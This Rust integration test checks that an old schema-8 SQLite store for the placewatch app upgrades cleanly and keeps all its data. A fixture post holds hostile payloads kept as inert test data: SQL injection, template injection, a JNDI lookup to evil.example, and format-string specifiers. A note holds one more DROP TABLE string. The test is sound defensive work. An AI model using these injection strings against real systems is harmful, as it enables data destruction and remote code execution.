//! Issue 14: a store written before the storage rewrite (commit 695479e^,
//! rusqlite beside sqlx, schema 8) opens with today's [`Store::open`], which
//! brings its schema up to date, and its data is all there through the store's
//! own API. The fixture and how it was made: `tests/fixtures/README.md`.
//!
//! SQLite-only: upgrades from old SQLite schemas (PostgreSQL starts at schema 21).

use std::collections::{BTreeMap, BTreeSet};
use std::path::{Path, PathBuf};

use placewatch::domain::outbox::ReplyState;
use placewatch::domain::triage::{Action, ReplyPath, Status};
use placewatch::store::{ItemFilter, ItemRow, ReplyFilter, Store};
use sqlx::{Connection, Row, SqliteConnection};
use tempfile::TempDir;

/// The committed fixture; tests open copies of it, never the file itself.
const FIXTURE: &str = concat!(
    env!("CARGO_MANIFEST_DIR"),
    "/tests/fixtures/store-schema-8.db"
);

// What tests/fixtures/README.md records about the fixture.
const POSTS: u64 = 879;
const ITEMS: usize = 856;
const ITEM_PLACES: usize = 1_125;
const ITEM_TAGS: usize = 206;
const NOTES: i64 = 2;
const AUDIT: usize = 873;
const OFFICERS: usize = 5;
const REPLIES: usize = 3;
const CURSORS: usize = 3;
/// Items per status: new, in progress, replied, referred, dismissed.
const BY_STATUS: [(Status, u64); 5] = [
    (Status::New, 849),
    (Status::InProgress, 3),
    (Status::Replied, 1),
    (Status::Referred, 1),
    (Status::Dismissed, 2),
];
/// The officer added for the fixture, with a known password.
const OFFICER: &str = "casey";
const PASSWORD: &str = "fixture-casey-pw-8";
/// The simulator's hostile post (item 100), as stored.
const HOSTILE: &str =
    "'; DROP TABLE posts;-- #Croydon \" OR 1=1 -- {{7*7}} ${jndi:ldap://evil.example/a} %s%s%n";

/// A copy of the fixture in a temp dir; the directory lives as long as the value.
struct Copy {
    path: PathBuf,
    _dir: TempDir,
}

fn copy_fixture() -> Copy {
    let dir = tempfile::tempdir().expect("temp dir");
    let path = dir.path().join("placewatch.db");
    std::fs::copy(FIXTURE, &path).expect("copy the fixture");
    Copy { path, _dir: dir }
}

async fn raw(path: &Path) -> SqliteConnection {
    SqliteConnection::connect(&format!("sqlite://{}", path.display()))
        .await
        .expect("raw connection")
}

/// The versions of the migrations in `migrations/` (`0001_init.sql` is 1).
fn migration_files() -> BTreeSet<i64> {
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("migrations");
    std::fs::read_dir(dir)
        .expect("migrations/")
        .map(|entry| entry.unwrap().file_name().into_string().unwrap())
        .filter(|name| name.ends_with(".sql"))
        .map(|name| name.split('_').next().unwrap().parse().unwrap())
        .collect()
}

/// An item as the old schema stored it, read with plain SQL.
#[derive(Debug)]
struct RawItem {
    post_id: u64,
    status: String,
    owner: Option<String>,
    reply_path: String,
    places: Vec<String>,
    tags: Vec<String>,
    text: String,
    raw: String,
}

/// What the file holds before the current code touches it.
#[derive(Debug)]
struct Before {
    posts: i64,
    items: BTreeMap<i64, RawItem>,
    item_places: i64,
    item_tags: i64,
    notes: i64,
    audit: i64,
    officers: Vec<String>,
    replies: Vec<(i64, String)>,
    /// monitor, since_id, posts_read, spooled_through.
    cursors: Vec<(String, Option<i64>, i64, i64)>,
    migrations: Vec<i64>,
}

async fn before(path: &Path) -> Before {
    let mut c = raw(path).await;
    let count = |table: &'static str| format!("SELECT count(*) FROM {table}");
    let mut n = BTreeMap::new();
    for table in ["posts", "item_places", "item_tags", "notes", "audit"] {
        let v: i64 = sqlx::query_scalar(&count(table))
            .fetch_one(&mut c)
            .await
            .unwrap();
        n.insert(table, v);
    }
    let items = sqlx::query(
        "SELECT i.id, i.post_id, i.status, i.owner, i.reply_path, i.places, i.tags, \
         p.text, p.raw FROM items i JOIN posts p ON p.id = i.post_id",
    )
    .fetch_all(&mut c)
    .await
    .unwrap()
    .iter()
    .map(|r| {
        let json = |col: &str| serde_json::from_str(r.get::<&str, _>(col)).unwrap();
        let item = RawItem {
            post_id: r.get::<i64, _>("post_id") as u64,
            status: r.get("status"),
            owner: r.get("owner"),
            reply_path: r.get("reply_path"),
            places: json("places"),
            tags: json("tags"),
            text: r.get("text"),
            raw: r.get("raw"),
        };
        (r.get::<i64, _>("id"), item)
    })
    .collect();
    let officers = sqlx::query_scalar("SELECT username FROM officers ORDER BY username")
        .fetch_all(&mut c)
        .await
        .unwrap();
    let replies = sqlx::query_as("SELECT id, state FROM replies ORDER BY id")
        .fetch_all(&mut c)
        .await
        .unwrap();
    let cursors = sqlx::query_as(
        "SELECT monitor, since_id, posts_read, spooled_through FROM cursors ORDER BY monitor",
    )
    .fetch_all(&mut c)
    .await
    .unwrap();
    let migrations =
        sqlx::query_scalar("SELECT version FROM _sqlx_migrations WHERE success ORDER BY version")
            .fetch_all(&mut c)
            .await
            .unwrap();
    c.close().await.unwrap();
    Before {
        posts: n["posts"],
        items,
        item_places: n["item_places"],
        item_tags: n["item_tags"],
        notes: n["notes"],
        audit: n["audit"],
        officers,
        replies,
        cursors,
        migrations,
    }
}

/// Every item through the inbox, page by page, newest first.
async fn every_item(store: &Store) -> (Vec<ItemRow>, Vec<(Status, u64)>) {
    let mut filter = ItemFilter {
        limit: 500,
        ..ItemFilter::default()
    };
    let mut items = Vec::new();
    loop {
        let page = store.list_items(&filter).await.unwrap();
        items.extend(page.items);
        match page.next_before {
            Some(before) => filter.before = Some(before),
            None => return (items, page.counts),
        }
    }
}

#[tokio::test]
async fn a_store_written_before_the_rewrite_opens_with_its_data_intact() {
    let copy = copy_fixture();

    // The file as the old code left it, read with plain SQL.
    let old = before(&copy.path).await;
    assert_eq!(old.posts, POSTS as i64);
    assert_eq!(old.items.len(), ITEMS);
    assert_eq!(old.item_places, ITEM_PLACES as i64);
    assert_eq!(old.item_tags, ITEM_TAGS as i64);
    assert_eq!(old.notes, NOTES);
    assert_eq!(old.audit, AUDIT as i64);
    assert_eq!(old.officers.len(), OFFICERS);
    assert_eq!(old.replies.len(), REPLIES);
    assert_eq!(old.cursors.len(), CURSORS);
    assert_eq!(old.migrations, (1..=8).collect::<Vec<i64>>(), "schema 8");

    let store = Store::open(&copy.path).await.expect("the old store opens");

    // Posts and items, through the inbox: same items, same posts byte for
    // byte, same status, owner, places, tags and reply path.
    assert_eq!(store.post_count().await.unwrap(), POSTS);
    let (items, counts) = every_item(&store).await;
    assert_eq!(items.len(), ITEMS);
    assert_eq!(counts, BY_STATUS.to_vec());
    let (mut places, mut tags) = (0, 0);
    for item in &items {
        let was = &old.items[&item.id];
        assert_eq!(item.post.id, was.post_id, "item {}", item.id);
        assert_eq!(item.post.text.as_bytes(), was.text.as_bytes());
        assert_eq!(item.post.raw.as_bytes(), was.raw.as_bytes());
        assert_eq!(item.status.as_str(), was.status, "item {}", item.id);
        assert_eq!(item.owner, was.owner, "item {}", item.id);
        assert_eq!(item.reply_path.as_str(), was.reply_path, "item {}", item.id);
        assert_eq!(item.places, was.places, "item {}", item.id);
        assert_eq!(item.tags, was.tags, "item {}", item.id);
        assert!(item.author.is_some(), "item {} has its author", item.id);
        places += item.places.len();
        tags += item.tags.len();
    }
    assert_eq!((places, tags), (ITEM_PLACES, ITEM_TAGS));
    // The derived rows agree with the items: each place and tag filters.
    let croydon = ItemFilter {
        place: Some("Croydon".into()),
        limit: 500,
        ..ItemFilter::default()
    };
    let in_croydon = old
        .items
        .values()
        .filter(|i| i.places.iter().any(|p| p == "Croydon"))
        .count() as u64;
    let page = store.list_items(&croydon).await.unwrap();
    assert_eq!(page.counts.iter().map(|(_, n)| n).sum::<u64>(), in_croydon);
    let waste = ItemFilter {
        tag: Some("waste".into()),
        limit: 500,
        ..ItemFilter::default()
    };
    let tagged = old
        .items
        .values()
        .filter(|i| i.tags.iter().any(|t| t == "waste"))
        .count();
    assert!(tagged > 0);
    assert_eq!(store.list_items(&waste).await.unwrap().items.len(), tagged);

    // The hostile post, its note and its dismissal.
    let hostile = store.item(100).await.unwrap();
    assert_eq!(hostile.post.text, HOSTILE);
    assert_eq!(hostile.status, Status::Dismissed);
    let notes = store.notes(100).await.unwrap();
    assert_eq!(notes.len(), 1);
    assert_eq!(
        (notes[0].author.as_str(), notes[0].text.as_str()),
        (OFFICER, "Hostile post, leave it.")
    );

    // Item 95: claimed by casey, with a note; its history from the audit log.
    let claimed = store.item(95).await.unwrap();
    assert_eq!(claimed.status, Status::InProgress);
    assert_eq!(claimed.owner.as_deref(), Some(OFFICER));
    assert_eq!(claimed.places, ["Croydon"]);
    assert_eq!(claimed.tags, ["waste"]);
    let notes = store.notes(95).await.unwrap();
    assert_eq!(
        notes.iter().map(|n| n.text.as_str()).collect::<Vec<_>>(),
        ["Called streets team; <b>bins</b> '; DROP TABLE notes;-- café ☕"]
    );
    let history: Vec<(String, String)> = store
        .audit(Some(95), 50)
        .await
        .unwrap()
        .into_iter()
        .rev()
        .map(|e| (e.actor, e.action))
        .collect();
    assert_eq!(
        history,
        [
            ("placewatch".to_owned(), "item.created".to_owned()),
            (OFFICER.to_owned(), "item.claimed".to_owned()),
            (OFFICER.to_owned(), "item.note_added".to_owned()),
        ]
    );
    let referred = store.item(82).await.unwrap();
    assert_eq!(referred.status, Status::Referred);
    assert_eq!(referred.owner.as_deref(), Some("sam"));
    let actions: Vec<String> = store
        .audit(Some(82), 50)
        .await
        .unwrap()
        .into_iter()
        .map(|e| e.action)
        .collect();
    assert_eq!(actions, ["item.referred", "item.claimed", "item.created"]);
    let whole_log = store.audit(None, 10_000).await.unwrap();
    assert_eq!(whole_log.len(), AUDIT);
    assert!(whole_log.iter().all(|e| !e.action.is_empty()));

    // Full-text search still finds posts in each status's index.
    let search = |text: &str| ItemFilter {
        text: Some(text.into()),
        limit: 500,
        ..ItemFilter::default()
    };
    let found = store.list_items(&search("jerk chicken")).await.unwrap();
    assert!(found.items.iter().any(|i| i.id == 93), "in progress");
    let found = store.list_items(&search("jndi evil")).await.unwrap();
    let found: BTreeSet<i64> = found.items.iter().map(|i| i.id).collect();
    let hostile: BTreeSet<i64> = old
        .items
        .iter()
        .filter(|(_, i)| i.text.contains("jndi") && i.text.contains("evil"))
        .map(|(id, _)| *id)
        .collect();
    assert!(hostile.contains(&100));
    assert_eq!(found, hostile);

    // Officers: all there, and casey's password still checks.
    let officers: Vec<String> = store
        .officers()
        .await
        .unwrap()
        .into_iter()
        .map(|o| o.username)
        .collect();
    assert_eq!(officers, old.officers);
    let (casey, hash) = store
        .officer_credentials(OFFICER)
        .await
        .unwrap()
        .expect("casey");
    assert_eq!(casey.display_name, "Casey Fixture");
    assert!(!casey.disabled);
    let checks = tokio::task::spawn_blocking(move || {
        (
            placewatch::web::verify_password(PASSWORD, &hash),
            placewatch::web::verify_password("not-the-password", &hash),
        )
    })
    .await
    .unwrap();
    assert_eq!(checks, (true, false), "the fixture password, and only it");
    // ... and can log in: a session is stored and found.
    let token = [7u8; 32];
    let expires = time::OffsetDateTime::now_utc() + time::Duration::hours(1);
    store
        .create_session(&casey, &token, "csrf", expires)
        .await
        .unwrap();
    let session = store.session(&token).await.unwrap().expect("a session");
    assert_eq!(session.officer, casey);

    // Cursors: where each monitor resumes.
    let cursors: Vec<(String, Option<i64>, i64, i64)> = store
        .cursors()
        .await
        .unwrap()
        .into_iter()
        .map(|c| {
            (
                c.monitor,
                c.since_id.map(|id| id as i64),
                c.posts_read as i64,
                c.spooled_through as i64,
            )
        })
        .collect();
    assert_eq!(cursors, old.cursors);
    assert!(
        store
            .cursors()
            .await
            .unwrap()
            .iter()
            .all(|c| c.items_filed == 0 && c.items_filed_since.is_some()),
        "schema 8 did not attribute items to monitors: the count starts at the upgrade, and says so"
    );
    assert!(
        cursors.iter().all(|c| c.1.is_some()),
        "every cursor completed a cycle"
    );

    // Replies: the sent one, the manual one waiting for x.com, the draft.
    let replies = store.list_replies(&ReplyFilter::default()).await.unwrap();
    let states: Vec<(i64, String)> = replies
        .iter()
        .rev()
        .map(|r| (r.id, r.state.as_str().to_owned()))
        .collect();
    assert_eq!(states, old.replies);
    let sent = store.reply(1).await.unwrap();
    assert_eq!(
        (sent.item_id, sent.state, sent.path, sent.x_post_id),
        (
            855,
            ReplyState::Sent,
            ReplyPath::Api,
            Some(2_129_555_447_668_015_104)
        )
    );
    assert_eq!(store.item(855).await.unwrap().status, Status::Replied);
    let manual = store.reply(2).await.unwrap();
    assert_eq!(
        (manual.item_id, manual.state),
        (93, ReplyState::ManualPending)
    );
    assert!(
        manual
            .intent_url
            .unwrap()
            .starts_with("https://x.com/intent/post?in_reply_to=")
    );
    let draft = store.reply(3).await.unwrap();
    assert_eq!(
        (draft.item_id, draft.state, draft.officer.as_str()),
        (854, ReplyState::Draft, OFFICER)
    );

    // The upgraded file takes writes: a claim moves the counts.
    store.transition(99, Action::Claim, OFFICER).await.unwrap();
    let (_, counts) = every_item(&store).await;
    assert_eq!(counts[0], (Status::New, BY_STATUS[0].1 - 1));
    assert_eq!(counts[1], (Status::InProgress, BY_STATUS[1].1 + 1));
    store.close().await;

    // Every migration in migrations/ is recorded as applied, and the file is sound.
    let mut c = raw(&copy.path).await;
    let applied: BTreeSet<i64> =
        sqlx::query_scalar("SELECT version FROM _sqlx_migrations WHERE success")
            .fetch_all(&mut c)
            .await
            .unwrap()
            .into_iter()
            .collect();
    assert_eq!(applied, migration_files());
    let check: Vec<String> = sqlx::query_scalar("PRAGMA integrity_check")
        .fetch_all(&mut c)
        .await
        .unwrap();
    assert_eq!(check, ["ok"]);
}
